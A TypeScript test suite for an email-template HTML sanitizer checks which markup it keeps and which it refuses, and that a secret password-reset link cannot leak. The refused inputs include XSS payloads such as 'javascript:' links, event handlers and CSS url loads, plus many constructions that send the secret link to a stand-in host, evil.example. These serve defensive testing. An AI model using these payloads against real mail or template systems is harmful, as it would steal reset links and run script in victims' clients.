// The HTML of templates: what stays, what is refused, and that a secret goes nowhere but to its reader.
import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { compileSource } from './compile.ts'
import { TemplateFault } from './faults.ts'
import { cleaned } from './markup.ts'

const clean = (html: string, isLayout = false) => cleaned('html', html, { secrets: ['link'], isLayout })
const refusal = (work: () => unknown) => {
  try {
    work()
  } catch (error) {
    assert.ok(error instanceof TemplateFault, `${(error as Error).stack}`)
    return error
  }
  assert.fail('It was let through.')
}

describe('the HTML of a template', () => {
  const kept: [string, string][] = [
    ['<p>Hi {{ name }} &amp; <b>x', '<p>Hi {{ name }} &#38; <b>x</b></p>'],
    ['{% if a %}<b>x</b>{% else %}y{% endif %}', '{% if a %}<b>x</b>{% else %}y{% endif %}'],
    [
      '<a href="https://shop.example/{{ id }}?x=1&y=2">x</a>',
      '<a href="https://shop.example/{{ id }}?x=1&#38;y=2">x</a>',
    ],
    ['<a href="{{ page }}">x</a>', '<a href="{{ page | web_address }}">x</a>'],
    ['<p>a < b & "c"</p>', '<p>a &#60; b &#38; &#34;c&#34;</p>'],
    ["<p title='a\"b {{ name }}'>x</p>", '<p title="a&#34;b {{ name }}">x</p>'],
    ['<style>p{color:red}</style>', '<style>p{color:red}</style>'],
    ['<p>&lt;script&gt;</p>', '<p>&#60;script&#62;</p>'],
    [
      '<img src="https://cdn.example/logo.png" alt="{{ product }}">',
      '<img src="https://cdn.example/logo.png" alt="{{ product }}">',
    ],
  ]
  for (const [html, expected] of kept) it(`keeps ${html}`, () => assert.equal(clean(html), expected))

  const refused: [string, string, number?][] = [
    ['a script', '<script>1</script>'],
    ['a handler', '<p>\n<b onclick="x()">y</b></p>', 2],
    ['a form', '<form action="https://evil.example"></form>'],
    ['a frame', '<iframe src="https://evil.example"></iframe>'],
    ['an object', '<object data="x"></object>'],
    ['a drawing', '<svg onload="x"></svg>'],
    ['another base', '<base href="https://evil.example/">'],
    ['a style sheet from elsewhere', '<link rel="stylesheet" href="https://evil.example/a.css">'],
    ['a link that runs', '<a href="javascript:alert(1)">x</a>'],
    ['a link that runs, in entities', '<a href="&#106;avascript:alert(1)">x</a>'],
    ['a link without its scheme', '<a href="//evil.example">x</a>'],
    ['a host that goes on in a value', '<a href="https://shop{{ name }}">x</a>'],
    ['two values as an address', '<a href="{{ a }}{{ b }}">x</a>'],
    ['an image of a value', '<img src="https://evil.example/{{ name }}">'],
    ['an image over plain HTTP', '<img src="http://evil.example/">'],
    ['a drawing as an image', '<img src="data:image/svg+xml;base64,AAAA">'],
    ['a style that loads', '<p style="background:url(https://evil.example)">x</p>'],
    ['a style that imports', '<style>@import "https://evil.example"</style>'],
    ['a style that hides what it loads', '<style>p{background:u\\72l(x)}</style>'],
    ['a style that asks for attributes', '<style>a[href^="https://a"]{color:red}</style>'],
    ['a value in a style', '<style>p{color:{{ name }}}</style>'],
    ['a value in a style attribute', '<p style="color:{{ name }}">x</p>'],
    ['a value as an attribute', '<p {{ name }}>x</p>'],
    ['a value in an end tag', '<p>x</p {{ name }}>'],
    ['a comment', 'a\n<!-- {{ name }} -->', 2],
    ['a directive', '<?php {{ name }} ?>'],
    ['a CDATA section', '<![CDATA[ {{ name }} ]]>'],
    ['a tag in an attribute', '<p title="{% if a %}x{% endif %}">y</p>'],
    ['a tag that is half in an element', '{% if a %}<b>{% endif %}x</b>'],
    ['a tag that is half in a paragraph', '<p>{% if a %}<p>{% endif %}'],
    ['a comment that swallows an end', '<a href="https://a.example">{% comment %}</a>{% endcomment %}x'],
    ['a block in an element', '<p>{% block body %}x{% endblock %}</p>'],
    ['a block in a tag', '{% if a %}{% block body %}x{% endblock %}{% endif %}'],
    ['the head of a document', '<head></head>'],
    ['a cell over millions of columns', '<table><tr><td colspan="99999999">x</td></tr></table>'],
    ['a list that begins far out', '<ol start="99999999999"></ol>'],
    ['elements nested without end', '<b>'.repeat(5_000)],
  ]
  for (const [what, html, line = 1] of refused)
    it(`refuses ${what}, and says where`, () => assert.equal(refusal(() => clean(html)).line, line))

  it('refuses signs that stand for places, in whatever way they are written', () => {
    for (const sign of ['\uE000', '&#xE000;', '&#xe000', '&#57344;', '&#057344', '&#X00E000;', '\uE001', '&#57345;'])
      for (const html of [
        `<p>${sign}0&#xE001;</p>`,
        `<p title="${sign}0">x</p>`,
        `<p>{{ a }}</p><img alt="${sign}1&#xE001;">`,
      ])
        refusal(() => clean(html))
    refusal(() => clean('<p title="{{ a }}" title="{{ b }}">x</p>'))
  })

  it('of a layout has blocks in elements, and none in links', () => {
    const page = (body: string) =>
      `<!doctype html><html><head><title>{{ subject }}</title></head><body>${body}</body></html>`
    assert.match(clean(page('<td>{% block body %}{% endblock %}</td>'), true), /<td>{% block body %}/)
    refusal(() => clean(page('<a href="https://evil.example">{% block action %}{% endblock %}</a>'), true))
    refusal(() => clean('<meta http-equiv="refresh" content="0;url=https://evil.example">', true))
    refusal(() => clean('<title>{% block body %}{% endblock %}</title>', true))
    refusal(() => clean('<style>{% block body %}{% endblock %}</style>', true))
  })
})

describe('the secret link of a mail', () => {
  it('is a button, the whole address of a link, or shown alone', () => {
    for (const html of [
      '{% button link %}Go{% endbutton %}',
      '<p><a href="{{ link }}">Go</a> on</p>',
      '<p> {{ link }} </p>',
      '<td>{{ link }}</td>',
      '<p><a href="{{ link }}">{{ link }}</a></p>',
      '{% block action %}<p>{{ link }}</p>{% endblock %}',
    ])
      assert.ok(clean(html).includes('link'))
  })

  const leaks = [
    '<img src="https://evil.example/?{{ link }}">',
    '<img src="https://evil.example/?{% if a %}">{% endif %}{{ link }}">',
    '<img alt="{{ link }}" src="https://evil.example/">',
    '<img src=https://evil.example/?{{ link }}>',
    '<a href="https://evil.example/?{{ link }}">x</a>',
    '<a href=https://evil.example/?{{link}}>x</a>',
    '<a href="{{ link }}.evil.example">x</a>',
    '<a href="{{ link | default: name }}">x</a>',
    '<a href="https://evil.example"><span>{{ link }}</span></a>',
    '<a href="https://evil.example"><p>{{ link }}</p></a>',
    '<a href="https://evil.example">{% button link %}Go{% endbutton %}</a>',
    '<a href="{{ name }}">{{ link }}</a>',
    '<p>https://evil.example/?{{ link }}</p>',
    '<p>https://evil.example/?<span>{{ link }}</span></p>',
    '<p>{{ link }}.evil.example</p>',
    '<p>{{ link }}<b>.evil.example</b></p>',
    '<p>{{ link | upcase }}</p>',
    '<p>{{ name | default: link }}</p>',
    '<p>{% if link == "https://a" %}<img src="https://evil.example/a">{% endif %}</p>',
    '{% case link %}{% when "a" %}x{% endcase %}',
    '{% for x in link %}{{ x }}{% endfor %}',
    '<p title="{{ link }}">x</p>',
    '<style>{{ link }}</style>',
    '<form action="https://evil.example"><input value="{{ link }}"></form>',
    '<textarea>{{ link }}</textarea>',
    '<!-- {{ link }} -->',
  ]
  for (const html of leaks) it(`is refused as ${html}`, () => void refusal(() => clean(html)))

  const compile = (change: object) =>
    compileSource('password_reset', { subject: 'Reset', html: '<p>{{ link }}</p>', text: null, ...change }, false)

  it('stands between spaces in a text, and in no subject', () => {
    assert.ok(compile({ text: 'Open\n{{ link }}\nnow' }))
    assert.ok(compile({ text: '{{ link }}' }))
    for (const text of [
      'https://evil.example/?{{ link }}',
      '{{ link }}.evil.example',
      '{{ name }}{{ link }}',
      'https://evil.example/?{% if name %}{{ link }}{% endif %}',
      '{% if name %}https://evil.example/?{% else %} {% endif %}{{ link }}',
      'x {{ link | upcase }} ',
      '{% if link == "x" %}a{% endif %}',
    ])
      assert.equal(refusal(() => compile({ text })).part, 'text')
    assert.equal(refusal(() => compile({ subject: 'Go to {{ link }}' })).part, 'subject')
  })

  it('is unknown to the layout', () => {
    const html = '<html><body>{% block body %}{% endblock %}{{ link }}</body></html>'
    assert.match(
      refusal(() => compileSource('layout', { subject: '', html, text: null }, false)).message,
      /no value "link"/,
    )
  })
})
